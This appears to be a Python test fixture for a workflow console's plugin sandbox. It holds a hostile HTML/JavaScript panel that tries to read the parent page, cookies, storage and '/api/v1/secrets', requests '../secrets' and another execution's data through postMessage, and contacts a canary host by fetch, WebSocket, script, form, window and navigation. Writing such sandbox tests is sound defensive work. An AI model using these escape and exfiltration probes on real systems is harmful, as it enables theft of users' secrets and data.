"""Panels of plugins that attack the console: the page, its tokens, other data and the network.

Each attempt gets its own line in the panel, which the scenario reads.
"""

HOSTILE = """<!doctype html>
<ul id="attempts"></ul>
<script>
const list = document.getElementById("attempts");
function note(name, outcome) {
  const line = document.createElement("li");
  line.textContent = `${name}: ${outcome}`;
  list.append(line);
}
async function attempt(name, action) {
  try {
    note(name, `reached ${await action()}`);
  } catch (error) {
    note(name, `refused ${error.name}`);
  }
}
function loaded(element, url) {
  return new Promise((resolve, reject) => {
    element.onload = () => resolve(url);
    element.onerror = () => reject(new Error());
    element.src = url;
    document.body.append(element);
  });
}
function opened(url) {
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(url);
    socket.onopen = () => resolve(url);
    socket.onerror = () => reject(new Error());
  });
}
async function attack(canary) {
  await attempt("page", () => parent.document.body.textContent);
  await attempt("address", () => parent.location.href);
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("api", async () => (await fetch("/api/v1/executions")).status);
  await attempt("fetch", async () => (await fetch(canary, { mode: "no-cors" })).type);
  await attempt("socket", () => opened(canary.replace("http", "ws")));
  await attempt("picture", () => loaded(new Image(), `${canary}picture`));
  await attempt("script", () => loaded(document.createElement("script"), `${canary}script`));
  await attempt("peer", () => new RTCPeerConnection());
  await attempt("nested", () => {
    document.body.append(document.createElement("iframe"));
    return new window[0].RTCPeerConnection();
  });
  await attempt("window", () => open(`${canary}window`).closed);
  await attempt("top", () => { top.location = `${canary}top`; return "top"; });
  const form = document.createElement("form");
  form.action = `${canary}form`;
  document.body.append(form);
  form.submit();
  note("form", "sent");
}
const asked = { history: "not granted", "../secrets": "not known" };
addEventListener("message", async ({ data }) => {
  if (data.type === "shown") {
    for (const each of Object.keys(asked)) {
      parent.postMessage({ flowmesh: 1, type: "read", id: 1, read: each }, "*");
    }
    parent.postMessage({ flowmesh: 1, type: "read", id: 2, read: "execution", executionId: "other",
      path: "/api/v1/secrets" }, "*");
  } else if (data.type === "refused") {
    note("read", data.problem);
  } else if (data.type === "value") {
    note("granted", data.value.executionId);
    await attack(data.value.input.canary);
    note("end", "of the attempts");
    addEventListener("click", () => { location = `${data.value.input.canary}leak`; });
  }
});
parent.postMessage({ flowmesh: 1, type: "hello" }, "*");
</script>
"""
